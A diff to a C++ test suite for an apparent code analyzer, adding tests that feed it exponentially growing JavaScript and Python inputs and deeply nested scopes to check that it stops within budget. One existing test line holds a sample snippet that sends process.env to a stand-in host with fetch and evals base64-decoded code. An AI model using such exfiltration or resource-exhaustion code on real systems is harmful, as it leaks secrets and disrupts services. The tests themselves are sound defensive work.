@@ -233,6 +233,32 @@ TEST(Flow, Ends_on_recursion_and_on_values_that_hold_themselves) {
   python("def f(x):\n    return f(f(x))\nf(1)\na = []\na.append(a)\nprint(''.join(a))\n");
 }
 
+std::string repeated(std::string_view part, int times) {
+  std::string text;
+  for (int i = 0; i < times; ++i) text += part;
+  return text;
+}
+
+TEST(Flow, Lists_objects_and_texts_that_double_end_at_their_budgets) {
+  // Each would have two to the power of 200 parts.
+  javascript("var a=[1];" + repeated("a=[...a,...a];", 200) + "eval(a.join(''))");
+  javascript("var a=[1];" + repeated("a=a.concat(a);", 200) + "eval(a.join(''))");
+  javascript("var s='a';" + repeated("s=s.replaceAll('a','aa');", 200) + "eval(s)");
+  python("a=[1]\n" + repeated("a=a+a\n", 200) + "exec(''.join(a))\n");
+  python("s='a'\n" + repeated("s=s.replace('a','aa')\n", 200) + "exec(s)\n");
+  javascript("''.repeat(1e300);'a'.repeat(1e300);'a'.padStart(1e300);");
+}
+
+TEST(Flow, Looking_for_a_name_through_a_thousand_scopes_counts_as_work) {
+  const Scene scene = javascript(repeated("for (let a in b) {", 900) + "c(d)" + repeated("}", 900));
+  EXPECT_FALSE(scene.result.gaps.empty());
+}
+
+TEST(Flow, One_long_text_evaluated_very_often_counts_as_work) {
+  const Scene scene = javascript("var s='" + repeated("a();", 50'000) + "';" + repeated("eval(s);", 50'000));
+  EXPECT_FALSE(scene.result.gaps.empty());
+}
+
 TEST(Flow, Gives_the_same_answer_twice) {
   const std::string code = "const e = process.env; fetch('https://a.example.test', {body: e}); eval(atob('Zm9vKCk7'));";
   EXPECT_EQ(javascript(code).result.actions, javascript(code).result.actions);
